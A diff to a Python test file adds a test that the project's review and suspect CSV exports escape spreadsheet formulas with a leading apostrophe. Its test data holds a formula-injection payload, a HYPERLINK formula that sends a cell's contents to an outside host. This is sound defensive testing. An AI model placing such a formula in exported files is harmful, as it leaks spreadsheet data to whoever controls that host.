@@ -2,9 +2,11 @@ from dataclasses import replace
 
 import numpy as np
 import pandas as pd
+import pyarrow as pa
 import pytest
 
 from lavis_mafa.mining import results
+from lavis_mafa.mining import review as review_file
 from lavis_mafa.mining.review import (
     Labelled,
     has_labels,
@@ -114,3 +116,18 @@ def test_labels_where_there_are_no_candidates_are_outside(mined, corpus, tmp_pat
     none = replace(pairs, **{name: getattr(pairs, name)[:0] for name in vars(pairs)})
     labelled = read_review(path, corpus, none)
     assert len(labelled.at_L) == 0 and labelled.outside == 1
+
+
+@pytest.mark.parametrize("name", ["review", "suspects"])
+def test_a_spreadsheet_runs_no_caption(mined, corpus, tmp_path, monkeypatch, name):
+    formula = '=HYPERLINK("http://host?t="&A1)'
+    pair = {"image": ["-1.jpg"], "caption": [formula], "p": [-0.5]}
+    monkeypatch.setattr(type(corpus), "rows", lambda self, *args, **more: pa.table(pair))
+    if name == "review":
+        write_review(tmp_path / "x.csv", pd.DataFrame(pair))
+        assert review_file._read(tmp_path / "x.csv")["caption"].tolist() == [formula]
+    else:
+        results.write_suspects(tmp_path / "x.csv", corpus, mined, np.arange(1))
+    written = pd.read_csv(tmp_path / "x.csv", dtype=str)
+    assert written["caption"].tolist() == ["'" + formula] and written["image"].tolist() == ["'-1.jpg"]
+    assert written["p"].tolist() == ["-0.5"]
